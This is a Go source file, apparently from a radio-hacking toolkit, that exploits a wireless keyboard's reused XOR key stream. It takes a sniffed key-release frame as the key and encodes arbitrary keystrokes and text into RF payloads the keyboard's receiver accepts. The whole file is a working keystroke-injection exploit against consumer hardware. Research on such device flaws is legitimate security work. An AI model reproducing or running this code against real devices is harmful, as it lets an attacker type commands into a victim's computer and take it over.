// Package keyboard is the codec for the targeted wireless keyboard family.
//
// The keyboard encrypts its 8 byte HID reports by XOR'ing them with a key
// stream which is not refreshed per report. The key release report that ends
// every keystroke has an all zero plaintext, so a sniffed release frame IS the
// key stream. Every report XOR'ed onto it is accepted by the receiver.
package keyboard

import (
	"errors"
	"fmt"

	"github.com/mame82/radiohackbox/helper"
	"github.com/mame82/radiohackbox/hid"
)

// smallest usable key stream: modifier, reserved, first key slot
const minKeyStreamLen = 3

const maxKeyStreamLen = 32

var (
	ErrKeySession   = errors.New("captured payload unusable as key stream")
	ErrUnmappedRune = errors.New("rune has no key mapping")
)

// Session is the key material obtained from a sniffed key frame. It turns
// key presses into ready to transmit RF payloads.
type Session interface {
	// EncodeKey returns a single report with the given modifier and key held.
	EncodeKey(mod hid.HIDMod, key hid.HIDKey) []byte
	// EncodeKeystroke returns press and release of key.
	EncodeKeystroke(key hid.HIDKey) [][]byte
	// EncodeText returns press and release reports for every rune of text.
	EncodeText(text string) ([][]byte, error)
}

// Codec derives a Session from a captured key bearing payload.
type Codec interface {
	DecodeKeySession(raw []byte) (Session, error)
}

type XORCodec struct{}

func (XORCodec) DecodeKeySession(raw []byte) (Session, error) {
	s, err := NewXORSession(raw)
	if err != nil {
		return nil, err
	}
	return s, nil
}

type XORSession struct {
	keyStream []byte
}

func NewXORSession(raw []byte) (*XORSession, error) {
	if len(raw) < minKeyStreamLen || len(raw) > maxKeyStreamLen {
		return nil, fmt.Errorf("%w: %d bytes", ErrKeySession, len(raw))
	}
	ks := make([]byte, len(raw))
	copy(ks, raw)
	return &XORSession{keyStream: ks}, nil
}

func (s *XORSession) String() string {
	// only show the first bytes, like the device info dump does for keys
	return fmt.Sprintf("key stream %s... (%d bytes) **REDACTED**", helper.Hex(s.keyStream[:minKeyStreamLen]), len(s.keyStream))
}

func (s *XORSession) EncodeKey(mod hid.HIDMod, key hid.HIDKey) []byte {
	report := make([]byte, len(s.keyStream))
	report[0] = byte(mod)
	report[2] = byte(key)
	for i := range report {
		report[i] ^= s.keyStream[i]
	}
	return report
}

func (s *XORSession) EncodeKeystroke(key hid.HIDKey) [][]byte {
	return [][]byte{
		s.EncodeKey(hid.HID_MOD_NONE, key),
		s.EncodeKey(hid.HID_MOD_NONE, hid.HID_KEY_NONE),
	}
}

func (s *XORSession) EncodeText(text string) (res [][]byte, err error) {
	res = make([][]byte, 0, 2*len(text))
	for i, r := range text {
		kc, ok := hid.LookupUS(r)
		if !ok {
			return nil, fmt.Errorf("%w: %q at offset %d", ErrUnmappedRune, r, i)
		}
		res = append(res,
			s.EncodeKey(kc.Mod, kc.Key),
			s.EncodeKey(hid.HID_MOD_NONE, hid.HID_KEY_NONE),
		)
	}
	return res, nil
}
